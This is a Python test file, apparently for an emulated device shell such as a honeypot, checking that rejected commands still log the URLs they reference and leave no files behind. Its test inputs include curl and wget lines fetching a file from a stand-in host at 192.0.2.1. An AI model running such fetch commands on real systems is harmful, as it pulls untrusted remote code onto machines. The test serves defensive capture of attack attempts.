# SPDX-License-Identifier: Apache-2.0
"""What a device refuses is done unseen."""

from __future__ import annotations

from mead.shell import FileWritten, Offer, Shell
from mead.shell.shadow import shadow


def test_nothing_of_it_is_seen_or_stays(shell: Shell) -> None:
    reply = shell.run(b"echo x <<< $(curl http://192.0.2.1/a) > /tmp/f; nosuch")
    assert reply.output == b"-sh: syntax error: unexpected redirection\n"
    assert [effect.url for effect in reply.effects if isinstance(effect, Offer)] == ["http://192.0.2.1/a"]
    assert not [effect for effect in reply.effects if isinstance(effect, FileWritten)]
    assert not shell.machine.fs.exists("/tmp/f")


def test_what_is_no_language_at_all_still_names_places(shell: Shell) -> None:
    reply = shell.run(b"); wget http://192.0.2.1/a (")
    assert [effect.url for effect in reply.effects if isinstance(effect, Offer)] == ["http://192.0.2.1/a"]


def test_text_without_any_place_costs_nothing(shell: Shell) -> None:
    before = shell.machine.budget.left
    shadow(shell._interpreter, "echo <<< x " * 10_000, shell._process)
    assert shell.machine.budget.left == before
